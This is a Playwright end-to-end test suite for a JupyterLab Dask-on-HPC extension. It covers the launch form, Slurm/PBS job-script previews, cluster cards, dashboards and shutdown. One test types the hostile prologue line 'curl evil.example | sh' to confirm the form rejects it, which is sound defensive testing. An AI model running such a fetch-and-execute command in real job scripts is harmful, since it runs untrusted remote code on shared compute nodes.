import { execFileSync } from 'node:child_process';
import { newNotebookWithIdleKernel, openLab } from './own-jupyter';
import { expect, test, type Page } from '@playwright/test';

// One JupyterLab page through the whole story, as a user lives it: look, plan, launch, use, stop.
test.describe.configure({ mode: 'serial' });

let page: Page;

async function command(id: string, args: Record<string, unknown> = {}) {
  await page.evaluate(async ([id, args]) => void (await (window as any).jupyterapp.commands.execute(id, args)), [id, args] as const);
}

const sidebar = () => page.locator('#dask-hpc-sidebar');
const card = () => sidebar().locator('[data-testid="dask-hpc-card"]');
const plan = () => sidebar().locator('[data-testid="dask-hpc-plan"]');
// Figures that differ from machine to machine are masked in the screenshots.
const machineFigures = () => [sidebar().locator('.jp-DaskHpc-resource-value'), sidebar().locator('.jp-DaskHpc-job'), plan()];

/** Drags the handle of the left area until the sidebar is `width` px wide, as a user would. */
async function setSidebarWidth(width: number) {
  const handle = page.locator('#jp-main-split-panel > .lm-SplitPanel-handle').first();
  for (let attempt = 0; attempt < 3; attempt++) {
    const current = (await sidebar().boundingBox())!.width;
    if (Math.abs(current - width) < 1) return;
    const box = (await handle.boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.mouse.down();
    await page.mouse.move(box.x + box.width / 2 + width - current, box.y + box.height / 2, { steps: 5 });
    await page.mouse.up();
  }
  expect(Math.round((await sidebar().boundingBox())!.width)).toBe(width);
}

/** Whether each palette command of the plugin is enabled now. */
async function commandsEnabled() {
  return page.evaluate(() => {
    const commands = (window as any).jupyterapp.commands;
    const enabled = (id: string) => commands.isEnabled(`dask-hpc:${id}`, {});
    return {
      launch: enabled('launch'),
      insert: enabled('insert-snippet'),
      dashboard: enabled('open-dashboard'),
      tunnel: enabled('copy-tunnel'),
      shutdown: enabled('shutdown')
    };
  });
}

/** Screenshots compare the sidebar at rest: no focus ring, scrolled to the top. */
async function atRest() {
  await sidebar().evaluate(node => {
    (document.activeElement as HTMLElement | null)?.blur();
    for (const element of [node, ...node.querySelectorAll('*')]) if (element.scrollTop) element.scrollTop = 0;
  });
}

test.beforeAll(async ({ browser }) => {
  page = await browser.newPage();
  await openLab(page, '/lab');
});

test.afterAll(async () => {
  await page.close();
});

test('the sidebar shows this machine', async () => {
  await command('dask-hpc:launch');
  await expect(sidebar()).toBeVisible();
  await expect(sidebar().locator('[data-testid="dask-hpc-batch"]')).toContainText('No batch system');
  await expect(sidebar().getByText('Cores')).toBeVisible();
  await expect(sidebar().getByText('0 of 2 in use')).toBeVisible();
  await expect(plan()).toContainText('worker');
  // With no cluster, the palette offers the cluster commands greyed out instead of failing silently.
  expect(await commandsEnabled()).toEqual({ launch: true, insert: false, dashboard: false, tunnel: false, shutdown: false });
  await page.keyboard.press('Control+Shift+C');
  await page.locator('#command-palette input').fill('Dask HPC: Insert Client Code');
  await expect(page.locator('#command-palette .lm-CommandPalette-item', { hasText: 'Insert Client Code' })).toHaveClass(/lm-mod-disabled/);
  await page.keyboard.press('Escape');
  await command('dask-hpc:launch');
  // The launch command leaves the keyboard at the form.
  await expect(sidebar().locator('input[name="workload"]:checked')).toBeFocused();
  await atRest();
  await expect(sidebar()).toHaveScreenshot('sidebar-light.png', { mask: machineFigures() });
});

test('the plan preview follows the form, and a bad value is marked at its field', async () => {
  await sidebar().locator('input[name="workload"][value="cpu"]').check();
  await expect(plan()).toContainText('2 workers × 1 thread');
  await sidebar().locator('input[name="workload"][value="io"]').check();
  await expect(plan()).toContainText('1 worker × 8 threads');
  await sidebar().locator('input[name="workload"][value="cpu"]').check();
  await sidebar().locator('input[name="max_workers"]').fill('1');
  await expect(plan()).toContainText('1 worker × 1 thread');
  const reserve = sidebar().locator('input[name="reserve_mem_gb"]');
  await reserve.fill('5000');
  await expect(sidebar().getByRole('alert')).toContainText('leaves no memory for workers');
  await expect(reserve).toHaveAttribute('aria-invalid', 'true');
  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
  await reserve.fill('');
  await sidebar().locator('input[name="max_workers"]').fill('');
  await expect(plan()).toContainText('2 workers × 1 thread');
});

test('the form refuses what it cannot read, marks only what the user touched, and names its own labels', async () => {
  const maxWorkers = sidebar().locator('input[name="max_workers"]');
  await expect(maxWorkers).toHaveAttribute('min', '1');
  // "1e" is no number: the browser hands the form an empty value, which must not plan as "all cores".
  await maxWorkers.pressSequentially('1e');
  await expect(sidebar().getByRole('alert')).toHaveText('Max workers: not a number.');
  await expect(maxWorkers).toHaveAttribute('aria-invalid', 'true');
  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
  await maxWorkers.fill('');
  await expect(sidebar().getByRole('alert')).toHaveCount(0);
  await expect(plan()).toContainText('2 workers × 1 thread');
  // Choosing worker jobs marks no field the user has not filled in yet; the plan area says what is missing.
  await sidebar().locator('select[name="placement"]').selectOption('jobs');
  await expect(plan()).not.toContainText('Planning');
  await expect(sidebar().locator('[aria-invalid="true"]')).toHaveCount(0);
  await expect(plan()).not.toContainText('_');
  await sidebar().locator('select[name="placement"]').selectOption('here');
  await expect(plan()).toContainText('2 workers × 1 thread');
  // Runner mode cannot run outside a PBS or Slurm job: offered greyed out, with the reason, before any Launch.
  await expect(sidebar().locator('select[name="placement"] option[value="runner"]')).toBeDisabled();
  await expect(sidebar().locator('[data-testid="dask-hpc-runner-unavailable"]')).toContainText('not in one');
});

/** Chooses worker jobs in the launch form and types each given field (input or textarea `job-<field>`). */
async function fillWorkerJobs(system: 'pbs' | 'slurm', fields: Record<string, string>) {
  await sidebar().locator('select[name="placement"]').selectOption('jobs');
  const jobs = sidebar().locator('[data-testid="dask-hpc-job-fields"]');
  await jobs.locator('select[name="job-system"]').selectOption(system);
  for (const [name, value] of Object.entries(fields)) await jobs.locator(`[name="job-${name}"]`).fill(value);
  return jobs;
}

test('workers on other nodes: the job script is previewed for Slurm and Gadi, and a bad prologue is marked at its field', async () => {
  const jobs = await fillWorkerJobs('slurm', { cores: '4', memory_gb: '16', queue: 'work' });
  const script = sidebar().locator('[data-testid="dask-hpc-job-script"]');
  await expect(script).toContainText('#SBATCH --cpus-per-task=4');
  await expect(script).toContainText('#SBATCH --partition=work');
  // The workers join the cluster as it runs: over TLS, with its certificate.
  await expect(script).toContainText("-m distributed.cli.dask_worker 'tls://");
  await expect(script).toContainText('--tls-ca-file');
  await expect(plan()).toContainText('Each job: 4 workers × 1 thread');
  // Gadi's dialect, from the same fields: the preview follows.
  await jobs.locator('select[name="job-system"]').selectOption('pbs');
  await expect(script).toContainText('#PBS -l ncpus=4');
  await jobs.locator('select[name="job-system"]').selectOption('slurm');
  const prologue = jobs.locator('textarea[name="job-prologue"]');
  await prologue.fill('module load python3/3.11.7\ncurl evil.example | sh');
  await expect(jobs.getByRole('alert')).toContainText('curl evil.example | sh');
  await expect(prologue).toHaveAttribute('aria-invalid', 'true');
  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
  await prologue.fill('module load python3/3.11.7');
  await expect(script).toContainText('module load python3/3.11.7');
  if (process.env.README_SCREENSHOT) {
    await page.setViewportSize({ width: 1280, height: 2400 });
    await sidebar()
      .locator('[data-testid="dask-hpc-job-script"]')
      .evaluate(pre => ((pre as HTMLElement).style.maxHeight = 'none'));
    await sidebar().locator('form').screenshot({ path: '../docs/sidebar-worker-jobs.png' });
    await sidebar()
      .locator('[data-testid="dask-hpc-job-script"]')
      .evaluate(pre => ((pre as HTMLElement).style.maxHeight = ''));
    await page.setViewportSize({ width: 1280, height: 900 });
  }
  await sidebar().locator('select[name="placement"]').selectOption('here');
  await expect(plan()).toContainText('2 workers × 1 thread');
  await expect(plan()).not.toContainText('Each job');
});

test('a cluster of real Slurm worker jobs of 2 nodes, launched from the sidebar, runs, says which job replaced a cancelled one, and is shut down with them', async () => {
  test.skip(!process.env.DASK_HPC_UI_SLURM, 'needs the real Slurm that scripts/ui-test.sh starts as root');
  // The workers run on the test Slurm's other hosts: they reach the scheduler on its bridge.
  const jobs = await fillWorkerJobs('slurm', {
    nodes: '2',
    cores: '1',
    memory_gb: '2',
    queue: '',
    prologue: '',
    interface: process.env.DASK_HPC_SLURM_INTERFACE ?? '',
    jobs: '1'
  });
  // Past one node the job's cores and memory are each host's, and the labels say so.
  await expect(jobs.locator('label', { has: page.locator('[name="job-cores"]') })).toContainText('Cores per node');
  await expect(sidebar().locator('[data-testid="dask-hpc-job-script"]')).toContainText('#SBATCH --nodes=2');
  await expect(plan()).toContainText('Each host of a job: 1 worker × 1 thread');
  await sidebar().locator('input[name="name"]').fill('ui-slurm');
  await sidebar().locator('button.jp-DaskHpc-launch').click();
  const slurmCard = card().filter({ hasText: 'ui-slurm' });
  await expect(slurmCard.locator('[data-testid="dask-hpc-status"]')).toHaveText('running', { timeout: 120000 });
  const jobsLine = slurmCard.locator('[data-testid="dask-hpc-jobs"]');
  await expect(jobsLine).toHaveText('Slurm jobs of 2 hosts each: 0 queued, 1 running, 0 finished');
  await expect(slurmCard.locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2 in jobs 1/1', { timeout: 60000 });
  // The job cancelled under the cluster: a new one takes its place, and the card says which and why.
  const first = execFileSync('squeue', ['-h', '-o', '%i']).toString().trim();
  expect(first).toMatch(/^\d+$/);
  execFileSync('scancel', [first]);
  await expect(slurmCard.locator('[data-testid="dask-hpc-job-replaced"]')).toContainText(
    new RegExp(`^job \\d+ replaces ${first}: it ended early \\(qdel, a node lost\\) at \\d\\d:\\d\\d:\\d\\d$`),
    { timeout: 60000 }
  );
  await expect(slurmCard.locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2 in jobs 1/1', { timeout: 90000 });
  await slurmCard.getByRole('button', { name: 'Shut down' }).click();
  await page.locator('.jp-Dialog').getByRole('button', { name: 'Shut down' }).click();
  await expect(card()).toHaveCount(0, { timeout: 60000 });
  await sidebar().locator('select[name="placement"]').selectOption('here');
  await sidebar().locator('input[name="name"]').fill('');
  await expect(plan()).toContainText('2 workers × 1 thread');
});

test('launching a cluster shows its workers reach the plan', async () => {
  await sidebar().locator('input[name="name"]').fill('ui-test');
  await sidebar().locator('button.jp-DaskHpc-launch').click();
  await expect(card()).toHaveCount(1);
  await expect(card().locator('[data-testid="dask-hpc-status"]')).toHaveText('running', { timeout: 120000 });
  await expect(card().locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
  await expect(sidebar().getByText('2 of 2 in use')).toBeVisible();
  await expect(card().locator('[data-testid="dask-hpc-metrics"]')).toContainText(/Memory.*of 20\.\d GiB/);
  await expect(card().locator('[data-testid="dask-hpc-metrics"]')).toContainText('CPU');
  expect(await commandsEnabled()).toEqual({ launch: true, insert: true, dashboard: true, tunnel: true, shutdown: true });
  if (process.env.README_SCREENSHOT) {
    await atRest();
    await sidebar().screenshot({ path: '../docs/sidebar-running.png' });
  }
});

test('a second cluster plans on what the first leaves: a full node is refused unless shared anyway, and the name is checked as typed', async () => {
  await sidebar().locator('input[name="name"]').fill('');
  const share = sidebar().locator('input[name="overcommit"]');
  await expect(share).toBeVisible();
  await expect(sidebar().getByRole('alert')).toContainText('1 cluster already holds 2 cores and 20.');
  await expect(sidebar().getByRole('alert')).toContainText('nothing is left for another cluster');
  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
  await share.check();
  await expect(plan()).toContainText('2 workers × 1 thread');
  await expect(sidebar().getByRole('alert')).toHaveCount(0);
  // A name in use is refused while it is typed, and the message goes with the name.
  const name = sidebar().locator('input[name="name"]');
  await name.fill('ui-test');
  await expect(sidebar().getByRole('alert')).toHaveText('a cluster named "ui-test" is already running');
  await expect(name).toHaveAttribute('aria-invalid', 'true');
  await name.fill('');
  await expect(sidebar().getByRole('alert')).toHaveCount(0);
  await share.uncheck();
  await expect(sidebar().getByRole('alert')).toContainText('nothing is left');
});

test("the card's Scale past the job shows why it is refused, and the cluster keeps its workers", async () => {
  await card().locator('summary', { hasText: 'Plots, scale, adapt' }).click();
  const size = card().getByRole('spinbutton', { name: 'Number of workers' });
  await size.fill('3');
  await card().getByRole('button', { name: 'Scale' }).click();
  await expect(card().getByRole('alert')).toContainText('n_workers=3 needs 3 cores (1 per worker) of the 2 left');
  await expect(card().getByRole('alert')).toContainText('share the node anyway (overcommit');
  await expect(card().locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
  // A size that fits is accepted and clears the message.
  await size.fill('2');
  await card().getByRole('button', { name: 'Scale' }).click();
  await expect(card().getByRole('alert')).toHaveCount(0);
  await card().locator('summary', { hasText: 'Plots, scale, adapt' }).click();
});

/** Masks for the card's figures that change from run to run (addresses, memory, CPU). */
const cardFigures = () => [
  card().locator('.jp-DaskHpc-meter-value'),
  card().locator('.jp-DaskHpc-address'),
  card().locator('.jp-DaskHpc-metrics .jp-DaskHpc-bar')
];

test('the running card fits a 250 px sidebar: one header row with its four icon buttons, one line per figure', async () => {
  await setSidebarWidth(250);
  const toolbar = card().getByRole('toolbar');
  const buttons = toolbar.getByRole('button');
  await expect(buttons).toHaveCount(4);
  const boxes = await Promise.all([0, 1, 2, 3].map(async index => (await buttons.nth(index).boundingBox())!));
  expect(new Set(boxes.map(box => Math.round(box.y))).size).toBe(1);
  // Every button says what it does on hover (and to screen readers).
  for (const name of ['Dashboard', 'Insert client code', 'Copy the SSH tunnel command', 'Shut down']) {
    await expect(toolbar.getByRole('button', { name })).toHaveCount(1);
    await expect(toolbar.locator(`[title^="${name}"]`)).toHaveCount(1);
  }
  const cardBox = (await card().boundingBox())!;
  expect(cardBox.width).toBeLessThanOrEqual(250);
  // The name is not cut short by the toolbar ("ui-test" is short enough to show whole).
  expect(
    await card()
      .locator('.jp-DaskHpc-card-name')
      .evaluate(name => name.scrollWidth <= name.clientWidth)
  ).toBe(true);
  expect(cardBox.height).toBeLessThan(200);
  for (const line of ['dask-hpc-workers', 'dask-hpc-metrics']) {
    const box = (await card().locator(`[data-testid="${line}"]`).boundingBox())!;
    expect(box.x + box.width).toBeLessThanOrEqual(cardBox.x + cardBox.width);
  }
  await expect(card().locator('[data-testid="dask-hpc-metrics"] .jp-DaskHpc-meter')).toHaveCount(2);
  // Scale, adapt and plots wait behind the disclosure, and fit the width when opened.
  await expect(card().getByRole('button', { name: 'Scale' })).toBeHidden();
  await atRest();
  await expect(card()).toHaveScreenshot('card-light.png', { mask: cardFigures() });
  if (process.env.README_SCREENSHOT) await card().screenshot({ path: '../docs/card-light.png' });
  await card().locator('summary', { hasText: 'Plots, scale, adapt' }).click();
  for (const name of ['Open plot', 'Scale', 'Adapt']) {
    const box = (await card().getByRole('button', { name }).boundingBox())!;
    expect(box.x + box.width).toBeLessThanOrEqual(cardBox.x + cardBox.width);
  }
  await card().locator('summary', { hasText: 'Plots, scale, adapt' }).click();
});

test('copying the SSH tunnel says so on screen, and off Gadi what to put in place of <login-host>', async () => {
  await card().getByRole('button', { name: 'Copy the SSH tunnel command' }).click();
  const toast = page.locator('.Toastify__toast', { hasText: 'SSH tunnel command copied' });
  await expect(toast).toBeVisible();
  await expect(toast).toContainText('Replace <login-host> with the login node you ssh to');
  // It goes away by itself: the user need not find the bell.
  await expect(toast).toBeHidden({ timeout: 20000 });
});

test('inserted client code connects a notebook to the cluster', async () => {
  await newNotebookWithIdleKernel(page);
  await card().getByRole('button', { name: 'Insert client code' }).click();
  const cells = page.locator('.jp-NotebookPanel:visible .jp-Cell');
  await expect(cells).toHaveCount(2);
  await expect(cells.nth(1)).toContainText('from jupyterlab_dask_hpc import connect');
  await command('notebook:insert-cell-below');
  await command('notebook:replace-selection', { text: 'print(len(client.scheduler_info()["workers"]), "workers for", dask_local_dir)' });
  await command('notebook:run-all-cells');
  await expect(page.locator('.jp-NotebookPanel:visible .jp-OutputArea-output').last()).toContainText(
    `2 workers for /tmp/dask-hpc-${process.getuid!()}/`,
    { timeout: 120000 }
  );
});

test("the card's figures follow a real computation, and the metrics route never fails meanwhile", async () => {
  const answers: number[] = [];
  const record = (response: import('@playwright/test').Response) => {
    // Jupyter's request helper adds a cache-busting query.
    if (/\/dask-hpc\/api\/clusters\/[^/]+\/metrics(\?|$)/.test(response.url())) answers.push(response.status());
  };
  page.on('response', record);
  try {
    const cpu = card().locator('[data-testid="dask-hpc-metrics"] .jp-DaskHpc-meter', { hasText: 'CPU' }).locator('.jp-DaskHpc-meter-value');
    const memory = card()
      .locator('[data-testid="dask-hpc-metrics"] .jp-DaskHpc-meter', { hasText: 'Memory' })
      .locator('.jp-DaskHpc-meter-value');
    // A share of the cores the cluster's workers have on this job, not top's 100 per core.
    await expect(cpu).toHaveText(/^\d+% of \d+ cores?$/);
    const idleMemory = await memory.textContent();
    // Tuple task keys in flight (a dask.array) are what made the scheduler's HTTP route answer 500.
    await command('notebook:insert-cell-below');
    await command('notebook:replace-selection', {
      text: [
        'import dask.array as da, time',
        'x = da.random.random((6000, 6000), chunks=(500, 500)).persist()',
        'end = time.time() + 40',
        'while time.time() < end:',
        '    (x @ x.T).sum().compute()',
        'print("computed")'
      ].join('\n')
    });
    await command('notebook:run-cell');
    // Busy workers: the card reads well above an idle cluster's few percent (on a shared 2-core machine the
    // two workers get 30-110% of one core between them, 15-55% of the two), and the held array shows in memory.
    await expect.poll(async () => parseInt((await cpu.textContent())!, 10), { timeout: 60000, intervals: [500] }).toBeGreaterThan(12);
    await expect.poll(async () => memory.textContent(), { timeout: 30000 }).not.toBe(idleMemory);
    const seen = new Set<string>();
    await expect
      .poll(
        async () => {
          seen.add((await cpu.textContent())!);
          return seen.size;
        },
        { timeout: 30000, intervals: [1000] }
      )
      .toBeGreaterThan(2);
    await expect(page.locator('.jp-NotebookPanel:visible .jp-OutputArea-output').last()).toContainText('computed', { timeout: 120000 });
  } finally {
    page.off('response', record);
  }
  expect(answers.length).toBeGreaterThan(10);
  expect(answers.filter(status => status !== 200)).toEqual([]);
});

test('dragging a cluster card into a notebook inserts its client code', async () => {
  const cells = page.locator('.jp-NotebookPanel:visible .jp-Cell');
  const header = card().locator('.jp-DaskHpc-card-header');
  const from = (await header.boundingBox())!;
  const before = await cells.count();
  const to = (await cells.last().boundingBox())!;
  await page.mouse.move(from.x + 20, from.y + from.height / 2);
  await page.mouse.down();
  for (let step = 1; step <= 10; step++) {
    await page.mouse.move(from.x + 20 + ((to.x + 60 - from.x - 20) * step) / 10, from.y + ((to.y + to.height - 4 - from.y) * step) / 10);
  }
  await page.mouse.up();
  await expect(cells).toHaveCount(before + 1);
  await expect(page.locator('.jp-NotebookPanel:visible .jp-Cell', { hasText: 'from jupyterlab_dask_hpc import connect' })).toHaveCount(2);
});

test('the dashboard opens in a Lab tab through Jupyter', async () => {
  await card().getByRole('button', { name: 'Dashboard' }).click();
  const tab = page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Dask Status · ui-test' });
  await expect(tab).toBeVisible();
  const frame = page.frameLocator('.jp-DaskHpc-dashboard iframe').first();
  await expect(frame.locator('body')).toContainText('Workers', { timeout: 60000 });
  await card().locator('summary', { hasText: 'Plots, scale, adapt' }).click();
  await card().locator('select[aria-label="Dashboard plot"]').selectOption('individual-task-stream');
  await card().getByRole('button', { name: 'Open plot' }).click();
  await expect(page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Dask Task stream · ui-test' })).toBeVisible();
});

test('the dark theme', async () => {
  await command('apputils:change-theme', { theme: 'JupyterLab Dark' });
  await page.waitForFunction(() => document.body.dataset.jpThemeLight === 'false');
  await atRest();
  await expect(sidebar()).toHaveScreenshot('sidebar-dark.png', { mask: [...machineFigures(), card()] });
  await card().locator('summary', { hasText: 'Plots, scale, adapt' }).click();
  await expect(card().getByRole('button', { name: 'Scale' })).toBeHidden();
  await expect(card()).toHaveScreenshot('card-dark.png', { mask: cardFigures() });
  if (process.env.README_SCREENSHOT) await card().screenshot({ path: '../docs/card-dark.png' });
  await command('apputils:change-theme', { theme: 'JupyterLab Light' });
});

test('after a reload the dashboard tabs come back, and with autoConnect new kernels get a client', async () => {
  const saved = await page.request.put('/lab/api/settings/jupyterlab-dask-hpc:plugin', {
    data: { raw: JSON.stringify({ autoConnect: true }) }
  });
  expect(saved.ok()).toBe(true);
  // The layout restorer saves the workspace shortly after a change; reload once it has the tabs.
  await expect
    .poll(async () => JSON.stringify(await (await page.request.get('/lab/api/workspaces')).json()), { timeout: 30000 })
    .toContain('individual-task-stream');
  await page.reload();
  await page.locator('#jupyterlab-splash').waitFor({ state: 'detached' });
  await page.evaluate(() => (window as any).jupyterapp.restored);
  await expect(page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Dask Task stream · ui-test' })).toBeVisible();
  // The tabs keep only the cluster and the plot: the restored one loads the plot of the live cluster.
  await expect(page.locator('.jp-DaskHpc-dashboard iframe[src$="/individual-task-stream"]')).toHaveCount(1);
  await expect(card().locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
  await newNotebookWithIdleKernel(page);
  await command('notebook:replace-selection', { text: 'print(len(client.scheduler_info()["workers"]), "workers without any code")' });
  await command('notebook:run-all-cells');
  await expect(page.locator('.jp-NotebookPanel:visible .jp-OutputArea-output').last()).toContainText('2 workers without any code', {
    timeout: 120000
  });
});

test('shutting down asks first, then the cluster goes, and the form plans on the freed node at once', async () => {
  // The form still says the node is taken, with a Launch that looks and says so.
  await expect(sidebar().getByRole('alert')).toContainText('nothing is left for another cluster');
  const launch = sidebar().locator('button.jp-DaskHpc-launch');
  await expect(launch).toBeDisabled();
  await expect(launch).toHaveAttribute('title', /^No valid plan yet: .*nothing is left for another cluster/);
  expect(Number(await launch.evaluate(button => getComputedStyle(button).opacity))).toBeLessThan(0.6);
  await card().getByRole('button', { name: 'Shut down' }).click();
  await page.locator('.jp-Dialog').getByRole('button', { name: 'Shut down' }).click();
  await expect(card()).toHaveCount(0, { timeout: 60000 });
  await expect(sidebar().getByText('0 of 2 in use')).toBeVisible();
  // No field touched: the preview follows the node's share as it is now.
  await expect(sidebar().getByRole('alert')).toHaveCount(0, { timeout: 10000 });
  await expect(launch).toBeEnabled();
  await expect(launch).toHaveAttribute('title', 'Start this cluster');
  expect(Number(await launch.evaluate(button => getComputedStyle(button).opacity))).toBe(1);
});
